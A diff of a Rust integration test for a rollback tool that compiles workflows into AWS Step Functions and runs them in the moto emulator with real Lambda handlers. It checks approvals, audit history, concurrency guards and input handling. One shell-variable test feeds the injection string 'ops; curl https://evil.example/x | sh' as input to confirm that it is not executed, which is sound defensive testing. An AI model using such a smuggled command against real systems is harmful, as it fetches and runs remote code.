@@ -1,16 +1,13 @@
-//! The compiled webapp example, run by moto 5.2.5's Step Functions interpreter.
+//! Compiled state machines run by moto 5.2.5's Step Functions interpreter, with the real Lambda handlers.
 //!
-//! moto without Docker echoes Lambda payloads and cannot raise function errors, so this test serves the Lambda
-//! Invoke API itself: a loopback proxy answers `POST /2015-03-31/functions/{name}/invocations` with fake
-//! functions that follow the payload contract, and forwards everything else to moto. moto starts with
-//! `MOTO_PORT` set to the proxy's port, because its interpreter sends its own AWS calls to
-//! `localhost:$MOTO_PORT`.
-
-mod http;
+//! moto without Docker runs no Lambda code, so the functions are served as `stepback rehearse` serves them:
+//! `cli::rehearsal::Front` starts moto behind `lambdas::serve`, which answers the Lambda Invoke API in process
+//! with the real handlers and passes every other request on; moto's interpreter is told its port through
+//! `MOTO_PORT`. The world the handlers act on is made as the rehearsal makes it (`cli::world`). What each step
+//! was invoked with is read from the execution's history, as Step Functions scheduled it.
 
 use std::collections::{BTreeMap, BTreeSet};
-use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
-use std::sync::{Arc, Mutex};
+use std::sync::Mutex;
 use std::time::{Duration, Instant};
 
 use cli::approval::{self, Decision};
@@ -18,255 +15,89 @@ use cli::execution;
 use serde_json::{Value, json};
 
 const ACCOUNT: &str = "123456789012";
+/// The functions' names: the compiled definitions' ARNs and the served functions agree on them.
+const PREFIX: &str = "stepback-";
 /// Who moto's STS says the caller is: what an answer records as `approved_by`.
 const MOTO_CALLER: &str = "arn:aws:sts::123456789012:user/moto";
 
-/// One Lambda invocation as the fake functions saw it.
+/// One Lambda invocation, as the execution's history shows it scheduled.
 #[derive(Clone, Debug)]
 struct Invocation {
-    execution: String,
     step: String,
     operation: String,
     params: Value,
-    /// The approval's token, which no saved history may show.
-    task_token: Option<String>,
 }
 
-/// The fake functions: every invocation is recorded; the execution's name says what goes wrong.
-#[derive(Default)]
-struct Functions {
-    invocations: Vec<Invocation>,
-    /// When set, the guard is the real handler, its ListExecutions answered by moto.
-    real_guard: Option<Arc<RealGuard>>,
-}
-
-/// The guard Lambda's handler and clients pointed at moto.
-struct RealGuard {
-    function: lambdas::Function,
-    clients: lambdas::Clients,
-    runtime: tokio::runtime::Handle,
-}
-
-impl RealGuard {
-    /// Runs the guard as its Lambda would: `(function error, body)`.
-    fn invoke(&self, request: &Value) -> (bool, Value) {
-        let answer = self
-            .runtime
-            .block_on(self.function.handle(&self.clients, request.clone()));
-        match answer {
-            Ok(response) => (false, serde_json::to_value(response).unwrap_or(Value::Null)),
-            Err(e) => (
-                true,
-                json!({ "errorType": e.name.as_str(), "errorMessage": e.message }),
-            ),
-        }
-    }
-}
-
-impl Functions {
-    fn record(&mut self, request: &Value) {
-        let text = |v: &Value| v.as_str().unwrap_or_default().to_owned();
-        self.invocations.push(Invocation {
-            execution: text(&request["execution"]["name"]),
-            step: text(&request["execution"]["step"]),
-            operation: text(&request["operation"]),
-            params: request["params"].clone(),
-            task_token: request
-                .get("task_token")
-                .and_then(Value::as_str)
-                .map(str::to_owned),
-        });
-    }
-
-    /// Answers like a stepback Lambda: `(function error, body)`.
-    fn invoke(&mut self, request: &Value) -> (bool, Value) {
-        let text = |v: &Value| v.as_str().unwrap_or_default().to_owned();
-        let execution = text(&request["execution"]["name"]);
-        let step = text(&request["execution"]["step"]);
-        let action = text(&request["action"]);
-        let operation = text(&request["operation"]);
-        self.record(request);
-        // The guard's input check is the real one; its ListExecutions is not run, as this test's executions of one
-        // machine run at once (`one_rollback_at_a_time` runs the whole guard).
-        if action == "guard" {
-            let checked = serde_json::from_value::<lambdas::actions::guard::Params>(
-                request["params"].clone(),
-            )
-            .map_err(|e| lambdas::ActionError::invalid_input(format!("guard params: {e}")))
-            .and_then(|params| params.check_input());
-            if let Err(e) = checked {
-                return (
-                    true,
-                    json!({ "errorType": e.name.as_str(), "errorMessage": e.message }),
-                );
+/// The invocations an execution's history (the bundle's events) scheduled, in order.
+fn invocations(events: &[Value]) -> Vec<Invocation> {
+    events
+        .iter()
+        .filter_map(|e| e["taskScheduledEventDetails"]["parameters"].as_str())
+        .filter_map(|parameters| serde_json::from_str::<Value>(parameters).ok())
+        .map(|parameters| {
+            let payload = &parameters["Payload"];
+            let text = |v: &Value| v.as_str().unwrap_or_default().to_owned();
+            Invocation {
+                step: text(&payload["execution"]["step"]),
+                operation: text(&payload["operation"]),
+                params: payload["params"].clone(),
             }
-        }
-        // drain refuses at once while its sibling branch's backup_db is still polling.
-        if execution.starts_with("sibling-late") && step == "drain" {
-            return (
-                true,
-                json!({ "errorType": "Stepback.Precondition", "errorMessage": "the target group has no targets" }),
-            );
-        }
-        if execution.starts_with("fail-deploy") && step == "deploy" {
-            return (
-                true,
-                json!({ "errorType": "Stepback.Failed", "errorMessage": "the deployment rolled back" }),
-            );
-        }
-        let response = |status: &str, output: Value, error: Value| {
-            json!({ "version": catalog::contract::VERSION, "status": status, "output": output,
-                    "state": {"step": step}, "progress": null, "error": error, "cause": null,
-                    "poll": request.get("poll") })
-        };
-        // drain takes one poll, to exercise the Wait → poll → Choice loop; the rest finish on start.
-        let polled =
-            step == "drain" || (execution.starts_with("sibling-late") && step == "backup_db");
-        if polled && operation == "start" {
-            return (false, response("running", json!({}), Value::Null));
-        }
-        if execution.starts_with("fail-drain") && step == "drain" {
-            let mut failed = response("failed", json!({}), json!("Stepback.Failed"));
-            failed["cause"] = json!("2 targets still draining");
-            return (false, failed);
-        }
-        (
-            false,
-            response("done", outputs(&action, &step), Value::Null),
-        )
-    }
-}
-
-/// The outputs the catalog declares for an action, with plausible values.
-fn outputs(action: &str, step: &str) -> Value {
-    let Some(spec) = catalog::action(action) else {
-        return json!({});
-    };
-    let mut out = serde_json::Map::new();
-    for output in spec.outputs {
-        let value = match output.ty {
-            catalog::ValueType::Number => json!(200),
-            catalog::ValueType::Bool => json!(true),
-            catalog::ValueType::StringList | catalog::ValueType::Targets => json!(["i-0abc:80"]),
-            catalog::ValueType::StringMap => json!({}),
-            _ => json!(format!("{step}-{}", output.name)),
-        };
-        out.insert(output.name.to_owned(), value);
-    }
-    Value::Object(out)
-}
-
-/// Listens on a loopback port: Lambda invocations go to `functions`, the rest to moto.
-fn serve(listener: TcpListener, moto: SocketAddr, functions: Arc<Mutex<Functions>>) {
-    std::thread::spawn(move || {
-        for stream in listener.incoming().flatten() {
-            let functions = Arc::clone(&functions);
-            std::thread::spawn(move || {
-                // A broken connection only fails the call that made it, which the test then reports.
-                let _ = handle(stream, moto, &functions);
-            });
-        }
-    });
-}
-
-fn handle(
-    mut stream: TcpStream,
-    moto: SocketAddr,
-    functions: &Mutex<Functions>,
-) -> std::io::Result<()> {
-    let request = http::read_request(&mut stream)?;
-    if request.method == "POST"
-        && request.path.starts_with("/2015-03-31/functions/")
-        && request.path.ends_with("/invocations")
-    {
-        let payload: Value = serde_json::from_slice(&request.body).unwrap_or(Value::Null);
-        let real_guard = functions
-            .lock()
-            .ok()
-            .and_then(|f| f.real_guard.clone())
-            .filter(|_| payload["action"] == "guard");
-        // The real guard runs outside the lock: other executions' Lambdas answer meanwhile.
-        let (error, body) = match real_guard {
-            Some(guard) => {
-                if let Ok(mut f) = functions.lock() {
-                    f.record(&payload);
-                }
-                guard.invoke(&payload)
-            }
-            None => functions
-                .lock()
-                .map(|mut f| f.invoke(&payload))
-                .unwrap_or((true, Value::Null)),
-        };
-        let headers: &[(&str, &str)] = if error {
-            &[("X-Amz-Function-Error", "Unhandled")]
-        } else {
-            &[]
-        };
-        return http::respond(&mut stream, "200 OK", headers, body.to_string().as_bytes());
-    }
-    let response = http::exchange(moto, &http::closing(&request))?;
-    std::io::Write::write_all(&mut stream, &response)
+        })
+        .collect()
 }
 
 struct Harness {
-    /// Kept for its drop, which stops moto.
-    _moto: tests::Moto,
-    proxy: SocketAddr,
-    functions: Arc<Mutex<Functions>>,
-    /// Approvals are answered with the code `stepback approve|reject` runs.
+    /// moto behind the served functions; moto stops on drop.
+    front: cli::rehearsal::Front,
     runtime: tokio::runtime::Runtime,
     sfn_client: aws_sdk_sfn::Client,
-    session: cli::aws::Session,
+    /// Each finished run's history (the bundle's events), by execution name.
+    histories: Mutex<BTreeMap<String, Vec<Value>>>,
+    /// The task tokens the approvals were answered with, by execution name: no saved history may show them.
+    tokens: Mutex<BTreeMap<String, Vec<String>>>,
 }
 
 impl Harness {
+    /// moto with every Lambda action's real handler served under the name the compiled definitions invoke.
     fn start() -> Harness {
-        let listener =
-            TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a loopback port for the proxy");
-        let proxy = listener.local_addr().expect("bound");
-        let moto = tests::Moto::start_with_env(&[("MOTO_PORT", &proxy.port().to_string())]);
-        let moto_addr: SocketAddr = moto
-            .endpoint()
-            .trim_start_matches("http://")
-            .parse()
-            .expect("moto address");
-        let functions = Arc::new(Mutex::new(Functions::default()));
-        serve(listener, moto_addr, Arc::clone(&functions));
         let runtime = tokio::runtime::Runtime::new().expect("a tokio runtime");
-        let config = runtime.block_on(moto.sdk_config());
-        let sfn_client = aws_sdk_sfn::Client::new(&config);
-        let session = cli::aws::Session { config };
-        let harness = Harness {
-            _moto: moto,
-            proxy,
-            functions,
+        let front = runtime
+            .block_on(cli::rehearsal::Front::start(None))
+            .unwrap_or_else(|e| panic!("{e}"));
+        let arns = options(1).substitutions;
+        for action in catalog::ACTIONS {
+            let name = arns
+                .get(&action.arn_substitution())
+                .and_then(|arn| arn.rsplit_once(":function:"))
+                .map(|(_, name)| name.to_owned());
+            if let (Some(name), Ok(function)) = (name, lambdas::Function::new(action)) {
+                front.served.add(name, function);
+            }
+        }
+        let sfn_client = aws_sdk_sfn::Client::new(&front.session.config);
+        Harness {
+            front,
             runtime,
             sfn_client,
-            session,
-        };
-        let config = json!({ "stepfunctions": { "execute_state_machine": true }, "lambda": { "use_docker": false } });
-        let (status, body) = http::post_json(
-            harness.proxy,
-            "/moto-api/config",
-            &[("Content-Type", "application/json")],
-            &config.to_string(),
-        );
-        assert!((200..300).contains(&status), "moto config: {status} {body}");
-        harness
+            histories: Mutex::default(),
+            tokens: Mutex::default(),
+        }
     }
 
-    /// From now on the guard is the real handler against moto.
-    fn use_real_guard(&self) {
-        let spec = catalog::action("guard").expect("the catalog's guard");
-        let guard = RealGuard {
-            function: lambdas::Function::new(spec).expect("the guard's Lambda"),
-            clients: lambdas::Clients::new(&self.session.config),
-            runtime: self.runtime.handle().clone(),
-        };
-        if let Ok(mut f) = self.functions.lock() {
-            f.real_guard = Some(Arc::new(guard));
-        }
+    /// Makes what the workflow's steps need, as `stepback rehearse` does, and compiles it.
+    fn seed_and_compile(
+        &self,
+        workflow: &mut workflow::Workflow,
+        speed: u64,
+    ) -> (cli::world::World, String) {
+        let input = execution::build_input(workflow, &[], None).expect("the default input");
+        let input = input.as_object().cloned().unwrap_or_default();
+        let world = self
+            .runtime
+            .block_on(cli::world::seed(&self.front.session, workflow, &input))
+            .expect("the world is made");
+        let compiled = compiler::compile(workflow, &options(speed)).expect("the workflow compiles");
+        (world, compiled.json)
     }
 
     /// Creates a state machine with the definition; its ARN.
@@ -286,28 +117,16 @@ impl Harness {
     }
 
     fn invocations(&self, execution: &str) -> Vec<Invocation> {
-        let all = self
-            .functions
-            .lock()
-            .map(|f| f.invocations.clone())
-            .unwrap_or_default();
-        all.into_iter()
-            .filter(|i| i.execution == execution)
-            .collect()
+        let histories = self.histories.lock().expect("the histories");
+        invocations(histories.get(execution).map_or(&[][..], Vec::as_slice))
     }
 
-    /// Starts an execution and runs it to the end, answering every approval as it comes: approving it, or
-    /// rejecting it when its step is `reject`.
-    fn run(
-        &self,
-        machine: &str,
-        name: &str,
-        input: Value,
-        reject: Option<&str>,
-    ) -> (String, String, Vec<Value>) {
+    /// Starts an execution and runs it to the end, approving every approval as it comes.
+    fn run(&self, machine: &str, name: &str, input: Value) -> (String, String, Vec<Value>) {
+        let session = &self.front.session;
         let arn = self
             .runtime
-            .block_on(execution::start(&self.session, machine, name, &input))
+            .block_on(execution::start(session, machine, name, &input))
             .expect("the execution starts");
         let deadline = Instant::now() + Duration::from_secs(120);
         let mut answered = BTreeSet::new();
@@ -315,7 +134,7 @@ impl Harness {
             // As `stepback approve EXECUTION_ARN` does: the waiting approvals and their tokens come from the
             // execution's history, and the answer names the caller from STS.
             let waiting = self.runtime.block_on(async {
-                let events = execution::history(&self.session, &arn)
+                let events = execution::history(session, &arn)
                     .await
                     .expect("the history");
                 execution::waiting_approvals(&events)
@@ -324,18 +143,13 @@ impl Harness {
                 .into_iter()
                 .filter(|w| answered.insert(w.token.clone()))
             {
-                let decision = if reject == Some(approval.step.as_str()) {
-                    Decision::Reject
-                } else {
-                    Decision::Approve
-                };
                 let comment = format!("checked {}", approval.step);
                 let answer = async {
-                    let caller = cli::aws::caller(&self.session).await.expect("STS answers");
+                    let caller = cli::aws::caller(session).await.expect("STS answers");
                     approval::answer(
                         &self.sfn_client,
                         &approval.token,
-                        decision,
+                        Decision::Approve,
                         &caller.arn,
                         &comment,
                     )
@@ -369,8 +183,25 @@ impl Harness {
             .runtime
             .block_on(cli::history::fetch(&self.sfn_client, &arn))
             .expect("the history");
+        self.tokens
+            .lock()
+            .expect("the tokens")
+            .insert(name.to_owned(), answered.into_iter().collect());
+        self.histories
+            .lock()
+            .expect("the histories")
+            .insert(name.to_owned(), bundle.events.clone());
         (arn, status, bundle.events)
     }
+}
+
+/// The compiler's options for these tests: the functions in moto's account, waits divided by `speed`.
+fn options(speed: u64) -> compiler::Options {
+    compiler::Options {
+        speed,
+        ..compiler::Options::default()
+    }
+    .with_account(tests::REGION, ACCOUNT, PREFIX)
 }
 
 /// What the history says about each step: when its first task was scheduled, when it finished, whether it
@@ -412,6 +243,10 @@ fn timeline(events: &[Value], steps: &[&str]) -> Timeline {
     t
 }
 
+/// The cases of the seed rollback that `cli/tests/it/rehearse.rs` does not rehearse (the defaults, a restore, a
+/// failed deploy, a rejected restore), one after another on one world, as the guard lets only one run at a time.
+/// A parallel branch stopped while its sibling polls (`sibling-late`) needs a step held in progress, which
+/// nothing in the emulator does yet; its recorded history stays the audit's fixture.
 #[test]
 fn webapp_rollback_runs_in_moto() {
     let path = concat!(
@@ -422,47 +257,14 @@ fn webapp_rollback_runs_in_moto() {
     let mut workflow = workflow::check(&source)
         .workflow
         .expect("the example is valid");
-    // The interpreter really waits: estimates of zero make the first poll 10 s after the start (the least
-    // allowance), and shorter timeouts keep the history small.
-    for step in &mut workflow.steps {
-        step.estimate_secs = 0;
-        step.timeout_secs = step.timeout_secs.min(300);
-    }
-    let options = compiler::Options::default().with_account(tests::REGION, ACCOUNT, "stepback-");
-    let compiled = compiler::compile(&workflow, &options).expect("the example compiles");
-
     let harness = Harness::start();
-    let machine = harness.create("webapp-rollback", &compiled.json);
+    let (_world, definition) =
+        harness.seed_and_compile(&mut workflow, cli::rehearsal::DEFAULT_SPEED);
+    let machine = harness.create("webapp-rollback", &definition);
 
+    // The alarm's run comes first: within `[trigger].cooldown` of another run's end, the guard holds it back.
+    // Each run rolls the service back once more, so the later ones name the image to go back to.
     let cases = [
-        (
-            "defaults",
-            json!({}),
-            "SUCCEEDED",
-            &["migrate_down", "approve_restore", "restore_db"][..],
-            None,
-        ),
-        (
-            "schema-changed",
-            json!({ "schema_changed": true, "migration_id": "0042" }),
-            "SUCCEEDED",
-            &["approve_restore", "restore_db"][..],
-            None,
-        ),
-        (
-            "restore-data",
-            json!({ "restore_data": true, "restore_snapshot": "snap-1" }),
-            "SUCCEEDED",
-            &["migrate_down"][..],
-            None,
-        ),
-        (
-            "fail-deploy",
-            json!({}),
-            "FAILED",
-            &["migrate_down", "approve_restore", "restore_db"][..],
-            Some("deploy"),
-        ),
         // What the trigger's rule passes on unchanged (tests/tests/stack checks the rule delivers it so).
         (
             "alarm",
@@ -471,30 +273,32 @@ fn webapp_rollback_runs_in_moto() {
             &["migrate_down", "approve_restore", "restore_db"][..],
             None,
         ),
-        ("fail-drain", json!({}), "FAILED", &[][..], Some("drain")),
-        ("sibling-late", json!({}), "FAILED", &[][..], Some("drain")),
         (
-            "reject-restore",
-            json!({ "restore_data": true, "restore_snapshot": "snap-1" }),
+            "schema-changed",
+            json!({ "schema_changed": true, "migration_id": "0042", "to_version": "v1" }),
+            "SUCCEEDED",
+            &["approve_restore", "restore_db"][..],
+            None,
+        ),
+        // As `stepback rehearse --fail drain` makes it fail.
+        (
+            "fail-drain",
+            json!({ "to_version": "v1" }),
             "FAILED",
-            &["migrate_down"][..],
-            Some("approve_restore"),
+            &[][..],
+            Some("drain"),
         ),
     ];
-    let results: Vec<_> = std::thread::scope(|scope| {
-        let handles: Vec<_> = cases
-            .iter()
-            .map(|(name, input, ..)| {
-                let reject = (*name == "reject-restore").then_some("approve_restore");
-                let (harness, machine) = (&harness, &machine);
-                scope.spawn(move || harness.run(machine, name, input.clone(), reject))
-            })
-            .collect();
-        handles
-            .into_iter()
-            .map(|h| h.join().expect("the case thread"))
-            .collect()
-    });
+    let mut results = Vec::new();
+    for (name, input, ..) in &cases {
+        if *name == "fail-drain" {
+            harness
+                .front
+                .served
+                .fail("drain", "Stepback.Failed", "2 targets still draining");
+        }
+        results.push(harness.run(&machine, name, input.clone()));
+    }
 
     let ids: Vec<&str> = workflow.steps.iter().map(|s| s.id.as_str()).collect();
     for ((name, _, expected, skipped, failing), (arn, status, events)) in cases.iter().zip(&results)
@@ -542,16 +346,8 @@ fn webapp_rollback_runs_in_moto() {
                     .as_str()
                     .unwrap_or_default()
                     .to_owned();
-                // A Lambda's JSON error arrives as its message; a plain cause passes unchanged; moto drops the
-                // Cause of SendTaskFailure (its answer is null), which the failure path fills in.
-                let (error, cause) = match *step {
-                    _ if *name == "sibling-late" => {
-                        ("Stepback.Precondition", "the target group has no targets")
-                    }
-                    "approve_restore" => ("Stepback.Rejected", "no cause given"),
-                    "deploy" => ("Stepback.Failed", "the deployment rolled back"),
-                    _ => ("Stepback.Failed", "2 targets still draining"),
-                };
+                // A Lambda's JSON error arrives as its message.
+                let (error, cause) = ("Stepback.Failed", "2 targets still draining");
                 assert_eq!(
                     message,
                     format!("Step {step} failed: {error}: {cause}. Traffic may still be drained."),
@@ -603,12 +399,12 @@ fn webapp_rollback_runs_in_moto() {
     let mut expected: Vec<&str> = cases.iter().map(|c| c.0).collect();
     expected.sort_unstable();
     assert_eq!(names, expected);
-    let [(_, defaults), (_, alarm)] = ["defaults", "alarm"].map(|name| {
+    let [(_, console), (_, alarm)] = ["schema-changed", "alarm"].map(|name| {
         let at = cases.iter().position(|c| c.0 == name).expect("the case");
         (name, &results[at].2)
     });
     check_inputs(
-        defaults,
+        console,
         None,
         json!({ "reason": "manual rollback", "initiated_by": "console" }),
     );
@@ -636,17 +432,21 @@ fn webapp_rollback_runs_in_moto() {
         "the alarm's exact reason reaches the steps"
     );
     assert_eq!(
-        announced("defaults"),
+        announced("schema-changed"),
         Some(json!("Reason: manual rollback. Initiated by console.")),
         "a console start keeps its defaults"
     );
 
-    let polls = harness
-        .invocations("defaults")
-        .iter()
-        .filter(|i| i.step == "drain" && i.operation == "poll")
-        .count();
-    assert_eq!(polls, 1, "drain is polled once after its start");
+    let polled: BTreeSet<String> = harness
+        .invocations("schema-changed")
+        .into_iter()
+        .filter(|i| i.operation == "poll")
+        .map(|i| i.step)
+        .collect();
+    assert!(
+        polled.contains("migrate_down"),
+        "the migration's task is polled after its start: {polled:?}"
+    );
 
     // A misspelt console input ends the execution before any step, with no failure path, naming the key and the
     // declared name it is closest to. (The "alarm" case above passed the same check.)
@@ -654,7 +454,6 @@ fn webapp_rollback_runs_in_moto() {
         &machine,
         "misspelt",
         json!({ "restor_data": true, "restore_snapshot": "snap-1" }),
-        None,
     );
     assert_eq!(status, "FAILED");
     let ended = events
@@ -693,11 +492,12 @@ fn audit_agrees(
         .block_on(cli::history::fetch(&harness.sfn_client, arn))
         .expect("the history is fetched");
     let text = serde_json::to_string_pretty(&bundle).expect("JSON");
+    let tokens = harness.tokens.lock().expect("the tokens");
     assert!(
-        harness
-            .invocations(name)
-            .iter()
-            .filter_map(|i| i.task_token.as_deref())
+        tokens
+            .get(name)
+            .into_iter()
+            .flatten()
             .all(|token| !text.contains(token)),
         "{name}: the saved history holds a task token"
     );
@@ -739,11 +539,6 @@ fn audit_agrees(
     };
     for step in skipped {
         assert_eq!(outcome(step), audit::Outcome::Skipped, "{name}: {step}");
-    }
-    if name == "sibling-late" {
-        // The other branch of the failed Parallel never finishes its poll loop. Whether moto let it run on past
-        // the failure (issue 14) depends on timing, so only the recorded fixture's test asserts that.
-        assert_eq!(outcome("backup_db"), audit::Outcome::Stopped, "{name}");
     }
     match failing {
         Some(step) => {
@@ -800,26 +595,23 @@ instance_ids = ["i-0abc"]
 commands = ["echo $${PATH}", "echo $${HOME} — café", "echo $${USER} is ${input.who}"]
 working_directory = "$${HOME}/app"
 "#;
-    let workflow = workflow::check(source)
+    let mut workflow = workflow::check(source)
         .workflow
         .expect("the workflow is valid");
-    let options = compiler::Options::default().with_account(tests::REGION, ACCOUNT, "stepback-");
-    let compiled = compiler::compile(&workflow, &options).expect("the workflow compiles");
-    assert!(
-        !compiled.json.contains("${"),
-        "the definition holds `${{` as text:\n{}",
-        compiled.json
-    );
-    assert!(
-        compiled.placeholders.is_empty(),
-        "{:?}",
-        compiled.placeholders
-    );
-
     let harness = Harness::start();
-    let machine = harness.create("shell-variables", &compiled.json);
+    let (world, definition) = harness.seed_and_compile(&mut workflow, 1);
+    assert!(
+        !definition.contains("${"),
+        "the definition holds `${{` as text:\n{definition}"
+    );
+    let instance = world
+        .renames()
+        .get("i-0abc")
+        .expect("an instance for i-0abc");
+
+    let machine = harness.create("shell-variables", &definition);
     let hostile = "ops; curl https://evil.example/x | sh";
-    let (_, status, _) = harness.run(&machine, "shell", json!({ "who": hostile }), None);
+    let (_, status, _) = harness.run(&machine, "shell", json!({ "who": hostile }));
     assert_eq!(status, "SUCCEEDED");
     let restart = harness
         .invocations("shell")
@@ -830,7 +622,7 @@ working_directory = "$${HOME}/app"
     assert_eq!(
         restart.params,
         json!({
-            "instance_ids": ["i-0abc"],
+            "instance_ids": [instance],
             "commands": ["echo ${PATH}", "echo ${HOME} — café", ["echo ${USER} is ", hostile, ""]],
             "working_directory": "${HOME}/app",
         })
@@ -888,14 +680,12 @@ action = "wait"
 after = ["act"]
 duration = "5s"
 "#;
-    let workflow = workflow::check(source)
+    let mut workflow = workflow::check(source)
         .workflow
         .expect("the workflow is valid");
-    let options = compiler::Options::default().with_account(tests::REGION, ACCOUNT, "stepback-");
-    let compiled = compiler::compile(&workflow, &options).expect("the workflow compiles");
     let harness = Harness::start();
-    harness.use_real_guard();
-    let machine = harness.create("one-at-a-time", &compiled.json);
+    let (_world, definition) = harness.seed_and_compile(&mut workflow, 1);
+    let machine = harness.create("one-at-a-time", &definition);
 
     for count in [2, 5] {
         let names: Vec<String> = (0..count).map(|i| format!("at-once-{count}-{i}")).collect();
@@ -904,7 +694,7 @@ duration = "5s"
                 .iter()
                 .map(|name| {
                     let (harness, machine) = (&harness, &machine);
-                    scope.spawn(move || harness.run(machine, name, json!({}), None))
+                    scope.spawn(move || harness.run(machine, name, json!({})))
                 })
                 .collect();
             handles
@@ -964,7 +754,7 @@ duration = "5s"
     }
 
     // Every execution has finished: the next one acts.
-    let (arn, status, _) = harness.run(&machine, "afterwards", json!({}), None);
+    let (arn, status, _) = harness.run(&machine, "afterwards", json!({}));
     assert_eq!(status, "SUCCEEDED");
     assert_eq!(
         execution::held_back(&execution_output(&harness, &arn)),
@@ -1010,14 +800,12 @@ action = "notify"
 topic = "arn:aws:sns:us-east-1:123456789012:ops"
 message = "rolling back"
 "#;
-    let workflow = workflow::check(source)
+    let mut workflow = workflow::check(source)
         .workflow
         .expect("the workflow is valid");
-    let options = compiler::Options::default().with_account(tests::REGION, ACCOUNT, "stepback-");
-    let compiled = compiler::compile(&workflow, &options).expect("the workflow compiles");
     let harness = Harness::start();
-    harness.use_real_guard();
-    let machine = harness.create("cooling-down", &compiled.json);
+    let (_world, definition) = harness.seed_and_compile(&mut workflow, 1);
+    let machine = harness.create("cooling-down", &definition);
     let alarm = || tests::alarm_event("webapp-5xx-rate", "ALARM", tests::ALARM_REASON);
     let steps_of = |name: &str| -> Vec<String> {
         harness
@@ -1028,12 +816,12 @@ message = "rolling back"
     };
 
     // The first alarm rolls back.
-    let (_, status, _) = harness.run(&machine, "first-alarm", alarm(), None);
+    let (_, status, _) = harness.run(&machine, "first-alarm", alarm());
     assert_eq!(status, "SUCCEEDED");
     assert_eq!(steps_of("first-alarm"), ["guard", "act"]);
 
     // The alarm fires again once that rollback has finished: nothing acts.
-    let (_, status, events) = harness.run(&machine, "flapping", alarm(), None);
+    let (_, status, events) = harness.run(&machine, "flapping", alarm());
     assert_eq!(status, "SUCCEEDED", "it ends cleanly");
     assert_eq!(steps_of("flapping"), ["guard"], "only the guard ran");
     // Why, in the history: the guard's error, and the execution's output naming the rollback that ran.
@@ -1062,7 +850,7 @@ message = "rolling back"
     }
 
     // A person starts one by hand: it is not held back.
-    let (_, status, _) = harness.run(&machine, "by-hand", json!({}), None);
+    let (_, status, _) = harness.run(&machine, "by-hand", json!({}));
     assert_eq!(status, "SUCCEEDED");
     assert_eq!(steps_of("by-hand"), ["guard", "act"]);
 }
